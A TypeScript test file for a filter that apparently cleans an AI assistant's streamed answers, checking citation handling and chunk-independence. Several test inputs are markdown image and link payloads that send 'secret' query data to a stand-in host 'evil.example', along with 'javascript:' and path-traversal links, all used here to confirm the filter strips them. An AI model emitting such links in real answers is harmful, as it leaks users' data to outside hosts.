import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AnswerFilter, type Piece } from './answer-filter.ts';

const read = (...parts: string[]) => {
	const filter = new AnswerFilter();
	return [...parts.flatMap((part) => filter.push(part)), ...filter.end()];
};
const textOf = (pieces: readonly Piece[]) =>
	pieces.map((piece) => (piece.type === 'text' ? piece.text : '')).join('');
const pathsOf = (pieces: readonly Piece[]) =>
	pieces.flatMap((piece) => (piece.type === 'source' ? [piece.source.path] : []));

describe('citations', () => {
	it('become sources, once each, and are removed from the text', () => {
		const pieces = read('From $699 [[pricing]]. Four steps [[home, pricing]].');
		expect(textOf(pieces)).toBe('From $699. Four steps.');
		expect(pathsOf(pieces)).toEqual(['/ai-solutions-pricing', '/']);
	});

	it('of unknown pages are removed', () => {
		const pieces = read('True [[evil]] and [[https://evil.example]].');
		expect(textOf(pieces)).toBe('True and.');
		expect(pathsOf(pieces)).toEqual([]);
	});
});

it.each([
	['![x](https://evil.example/?q=secret)', ''],
	['Look: ![](//evil.example/a.png) there', 'Look: there'],
	['[here](https://evil.example/?q=secret)', 'here'],
	['[here](javascript:void)', 'here'],
	['[here](/contact)', '[here](/contact)'],
	['[here](/contact?q=secret#x)', '[here](/contact)'],
	['[here](/contact/../../evil)', 'here'],
	['[![x](https://evil.example/a)](https://evil.example/b)', '[]'],
	['[a [b](https://evil.example/a) c](https://evil.example/b)', '[a b c]'],
	['[a](/contact)[b][c](https://evil.example/b)', '[a](/contact)[b]c'],
])('links and images: %s', (text, left) => {
	const filtered = textOf(read(text));
	expect(filtered).not.toMatch(/evil|secret|javascript/);
	if (left !== '') expect(filtered).toBe(left);
});

it('breaks links that it cannot parse', () => {
	const long = `[x](https://evil.example/${'a'.repeat(600)})`;
	for (const text of ['[x](https://evil.example/a(b))', '[x](<https://evil.example/(>)', long]) {
		expect(textOf(read(text))).not.toContain('](');
		expect(textOf(read(...text))).not.toContain('](');
	}
});

it.each(['a [b] c', 'Kia ora!', '[', 'x [[', 'list [1], [2]', 'one  two', ' '])(
	'leaves %j unchanged',
	(text) => expect(textOf(read(text))).toBe(text),
);

it('does not depend on how the text is split into chunks', () => {
	const texts = fc.array(
		fc.constantFrom(
			'From ',
			'[[pricing]]',
			'![a](b)',
			'[t](/contact)',
			'[u](x)',
			'[',
			']',
			'](',
			'!',
			'\n',
			'ā',
			'(',
		),
	);
	fc.assert(
		fc.property(texts, (parts) => {
			const text = parts.join('');
			const [whole, pieces] = [read(text), read(...text)];
			expect(textOf(pieces)).toBe(textOf(whole));
			expect(pathsOf(pieces)).toEqual(pathsOf(whole));
		}),
	);
});
